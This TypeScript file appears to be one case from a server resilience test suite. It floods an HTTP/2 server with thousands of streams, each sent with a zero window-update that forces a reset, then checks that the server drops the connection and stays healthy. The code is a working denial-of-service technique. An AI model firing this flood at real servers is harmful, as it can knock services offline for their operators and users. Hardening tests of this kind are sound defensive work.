import type { Attack } from '../attack.ts'
import { pause } from '../tools/many.ts'
import { endHeaders, endStream, frame, frames, getHeaders, openRawHttp2 } from '../tools/raw-http2.ts'

const invalid = Buffer.from([0, 0, 0, 0])

export const attack: Attack = {
  title: 'streams that the client makes the server reset: 20,000 window updates of zero',
  limits: { cpuMs: 100, residentMiB: 200, stopMs: 50 },
  async run(target, judge) {
    const connection = await openRawHttp2(target)
    const headers = getHeaders('/api/v1/namespaces/default/configmaps')
    for (let index = 0; index < target.pick(20_000, 2_000) && !connection.isClosed; index += 100) {
      const some = Array.from({ length: 100 }, (_, offset) => 2 * (index + offset) + 1)
      await connection.write(
        Buffer.concat(
          some.flatMap((stream) => [
            frame(frames.headers, endHeaders | endStream, stream, headers),
            frame(frames.windowUpdate, 0, stream, invalid),
          ]),
        ),
      )
      await pause(0)
    }
    const isClosed = await connection.closed(10_000)
    judge.expect(isClosed, 'the connection is open')
    judge.expect((await target.send({ path: '/livez' })).status === 200, 'the server does not answer after it')
    connection.socket.destroy()
  },
}
